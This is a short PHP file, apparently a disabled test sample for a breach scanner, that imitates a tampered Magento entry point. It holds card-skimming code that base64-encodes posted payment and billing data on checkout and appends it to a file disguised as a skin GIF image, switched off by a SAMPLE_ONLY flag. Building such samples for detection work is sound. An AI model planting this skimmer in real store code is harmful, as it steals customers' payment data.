<?php
/**
 * synthetic test sample for breachscan: patched Magento entry point shape - lines added in
 * front of the bootstrap copy the posted payment and billing sections, base64-encode them
 * and append them to a file named like a skin image. Disabled: SAMPLE_ONLY skips it.
 */
define('SAMPLE_ONLY', true);
if (!SAMPLE_ONLY && isset($_POST['payment']) && strpos($_SERVER['REQUEST_URI'], 'checkout') !== false) {
    $blob = base64_encode(json_encode(array($_POST['payment'], $_POST['billing'])));
    file_put_contents(dirname(__FILE__) . '/skin/frontend/default/default/images/bkg_pixel.gif', $blob . "\n", FILE_APPEND);
}
require_once __DIR__ . '/app/bootstrap.php';
